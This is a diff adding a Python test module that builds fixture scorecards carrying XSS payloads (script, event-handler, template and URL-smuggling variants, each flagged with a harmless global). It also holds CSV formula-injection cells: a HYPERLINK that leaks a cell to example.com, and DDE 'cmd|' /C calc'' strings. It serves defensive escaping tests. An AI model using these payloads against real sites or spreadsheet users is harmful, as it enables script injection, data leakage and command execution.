@@ -1,0 +1,247 @@
+"""Injection payloads, and the fixture scorecards that carry them into every free-text field.
+
+Every HTML/JS payload, if a page ever executes it, sets ``window.__xss = true`` (never
+``alert``), so a test only has to read one global.  Payloads that cannot execute on their
+own (template syntax, entities) are written so that *evaluating* them produces markup that
+does execute, and they are also checked as literal text on the page.
+
+The fixture files in ``tests/fixtures/xss/scorecards/xss/`` are generated from this module
+with ``yaml.safe_dump`` (so every payload is a valid YAML string) and must not be edited by
+hand; regenerate them with::
+
+    .venv/bin/python -m tests.browser.xss_payloads
+
+``tests/browser/test_xss.py`` fails if the files on disk differ from what this module makes.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+from typing import Any
+
+import yaml
+
+FIXTURE_DIR = Path(__file__).parent.parent / "fixtures" / "xss" / "scorecards" / "xss"
+
+# Payloads for text fields: each one, if executed in any way, sets window.__xss.
+PAYLOADS: list[str] = [
+    "<script>window.__xss=true</script>",
+    '<img src=x onerror="window.__xss=true">',
+    '<svg onload="window.__xss=true"></svg>',
+    '"><img src=x onerror=window.__xss=true>',
+    "'><svg/onload=window.__xss=true>",
+    '" autofocus onfocus="window.__xss=true" x="',
+    "javascript:window.__xss=true",
+    "[click](javascript:window.__xss=true)",
+    '![x](x" onerror="window.__xss=true)',
+    '<https://example.com/"><img src=x onerror=window.__xss=true>>',
+    "</title><script>window.__xss=true</script>",
+    "</textarea></script><img src=x onerror=window.__xss=true>",
+    "{{ '<img src=x onerror=window.__xss=true>' | safe }}",
+    "{{ 7*7 }}",
+    "{% raw %}<img src=x onerror=window.__xss=true>{% endraw %}",
+    "${window.__xss=true}",
+    "<!-- --><img src=x onerror=window.__xss=true><!-- -->",
+    "--><img src=x onerror=window.__xss=true><!--",
+    "&lt;img src=x onerror=window.__xss=true&gt;",
+    "&#60;script&#62;window.__xss=true&#60;/script&#62;",
+    "\u2028\u2029</script><script>window.__xss=true</script>",
+    '<iframe srcdoc="<script>parent.__xss=true</script>"></iframe>',
+    '<a href="javascript:window.__xss=true">click</a>',
+    "<style>@import 'javascript:window.__xss=true';body{display:none}</style>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__xss=true>">',
+    '<details open ontoggle="window.__xss=true">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=true>",
+]
+
+# http(s) URLs that pass validation (no whitespace, a real host) but carry payloads.
+URL_PAYLOADS: list[str] = [
+    'https://example.com/"><script>window.__xss=true</script>',
+    "https://example.com/'><img/src=x/onerror=window.__xss=true>",
+    "https://example.com/?q=<svg/onload=window.__xss=true>",
+    'https://example.com/#"onmouseover="window.__xss=true"',
+    'https://example.com/path?a=1&b="><iframe/srcdoc=<script>parent.__xss=true</script>>',
+    "https://javascript:window.__xss=true@example.com/",
+    "http://example.com/%22%3E%3Cscript%3Ewindow.__xss=true%3C/script%3E",
+    "https://example.com/{{7*7}}/{%raw%}<img/src=x/onerror=window.__xss=true>",
+]
+
+# Cells that a spreadsheet would run as formulas if the CSV export did not neutralize them.
+FORMULA_NAME = '=HYPERLINK("https://example.com/?leak="&A1,"Click for details")'
+FORMULA_DEVELOPER = "+1+cmd|' /C calc'!A0"
+FORMULA_REVIEWER = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_NAME_2 = "-2+3+cmd|' /C calc'!A0"
+FORMULA_DEVELOPER_2 = "\t=1+1"
+FORMULA_REVIEWER_2 = "\r=1+1"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+SHORT_MAX = 200  # name, developer, flagship_model, base_model, locator, by, reviewed_by
+ASSESSED = dt.date(2025, 6, 15)
+EARLIER = dt.date(2025, 1, 15)
+
+
+def chunks(payloads: list[str], budget: int) -> list[list[str]]:
+    """Greedy groups of payloads whose space-joined length stays within budget."""
+    groups: list[list[str]] = [[]]
+    for payload in payloads:
+        if len(payload) > budget:
+            raise ValueError(f"payload longer than {budget} characters: {payload!r}")
+        if groups[-1] and len(" ".join([*groups[-1], payload])) > budget:
+            groups.append([])
+        groups[-1].append(payload)
+    return groups
+
+
+# The longest prefix below is "XSS lab NN " (11 characters).
+GROUPS: list[list[str]] = chunks(PAYLOADS, SHORT_MAX - 12)
+
+
+def _evidence(url: str, text: str, locator: str | None) -> dict[str, Any]:
+    item: dict[str, Any] = {"url": url, "quote": text, "retrieved": ASSESSED}
+    if locator is not None:
+        item["locator"] = locator
+    return item
+
+
+def _card(subject: dict[str, Any], text: str, *, by: str, reviewer: str, locator: str | None) -> dict[str, Any]:
+    """A scorecard with `text` in the assessment-level fields and two assessments (for the changes page)."""
+    return {
+        "schema_version": 1,
+        "subject": subject,
+        "assessments": [
+            {
+                "rubric": "transparency",
+                "rubric_version": "1.0",
+                "date": EARLIER,
+                "summary": text,
+                "indicators": {
+                    "license": {
+                        "status": "not-disclosed",
+                        "note": text,
+                        "provenance": {"source": "collector", "by": by},
+                    },
+                },
+            },
+            {
+                "rubric": "transparency",
+                "rubric_version": "1.0",
+                "date": ASSESSED,
+                "summary": text,
+                "indicators": {
+                    "license": {
+                        "status": "disclosed",
+                        "evidence": [_evidence(url, text, locator) for url in URL_PAYLOADS],
+                        "note": text,
+                        "provenance": {"source": "person", "by": by, "reviewed_by": reviewer, "reviewed_on": ASSESSED},
+                    },
+                    "model-size": {
+                        "status": "partial",
+                        "evidence": [_evidence(URL_PAYLOADS[0], text, locator)],
+                        "note": text,
+                        "provenance": {"source": "import", "by": by},
+                    },
+                    "training-data-size": {
+                        "status": "not-disclosed",
+                        "note": text,
+                        "provenance": {
+                            "source": "collector",
+                            "by": by,
+                            "reviewed_by": reviewer,
+                            "reviewed_on": ASSESSED,
+                        },
+                    },
+                },
+            },
+        ],
+    }
+
+
+def _links() -> dict[str, Any]:
+    return {
+        "homepage": URL_PAYLOADS[0],
+        "model_card": URL_PAYLOADS[1],
+        "paper": URL_PAYLOADS[2],
+        "repository": URL_PAYLOADS[3],
+        "license": URL_PAYLOADS[4],
+        "documentation": URL_PAYLOADS,
+    }
+
+
+def scorecards() -> dict[str, dict[str, Any]]:
+    """id -> scorecard: one per group of payloads (every field holds the group), plus two for CSV formulas."""
+    cards: dict[str, dict[str, Any]] = {}
+    for number, group in enumerate(GROUPS, start=1):
+        text = " ".join(group)
+        subject_id = f"xss-{number}"
+        subject = {
+            "id": subject_id,
+            "name": f"XSS {number} {text}",
+            "kind": "developer" if number % 2 else "model",
+            "developer": f"XSS lab {number} {text}",
+            "flagship_model": text,
+            "release_date": EARLIER,
+            "modalities": ["text"],
+            "access": "open-weights",
+            "base_model": text,
+            "description": text,
+            "links": _links(),
+        }
+        cards[subject_id] = _card(subject, text, by=text, reviewer=text, locator=text)
+    formula_cards = [
+        ("xss-csv-1", FORMULA_NAME, FORMULA_DEVELOPER, FORMULA_REVIEWER, 'xss-org/"><svg/onload=window.__xss=true>'),
+        (
+            "xss-csv-2",
+            FORMULA_NAME_2,
+            FORMULA_DEVELOPER_2,
+            FORMULA_REVIEWER_2,
+            "xss-org/'><img/src=x/onerror=window.__xss=true>",
+        ),
+    ]
+    for subject_id, name, developer, reviewer, base_model in formula_cards:
+        subject = {
+            "id": subject_id,
+            "name": name,
+            "developer": developer,
+            "modalities": ["text"],
+            "access": "api-only",
+            "base_model": base_model,
+            "description": name,
+            "links": _links(),
+        }
+        cards[subject_id] = _card(subject, name, by=name, reviewer=reviewer, locator=None)
+    return cards
+
+
+class _Dumper(yaml.SafeDumper):
+    """yaml.safe_dump's dumper, without anchors for values shared between fields (dates, URL lists)."""
+
+    def ignore_aliases(self, data: Any) -> bool:
+        return True
+
+
+def render(card: dict[str, Any]) -> str:
+    text = yaml.dump(card, Dumper=_Dumper, sort_keys=False, allow_unicode=False, width=100)
+    return "# Generated by tests/browser/xss_payloads.py: do not edit, regenerate.\n" + text
+
+
+def expected_files() -> dict[str, str]:
+    """file name -> content of every fixture scorecard."""
+    return {f"{subject_id}.yaml": render(card) for subject_id, card in scorecards().items()}
+
+
+def write_fixtures(folder: Path = FIXTURE_DIR) -> list[Path]:
+    folder.mkdir(parents=True, exist_ok=True)
+    for stale in folder.glob("*.yaml"):
+        stale.unlink()
+    written = []
+    for name, content in expected_files().items():
+        path = folder / name
+        path.write_text(content, encoding="utf-8")
+        written.append(path)
+    return written
+
+
+if __name__ == "__main__":
+    for written_path in write_fixtures():
+        print(written_path)
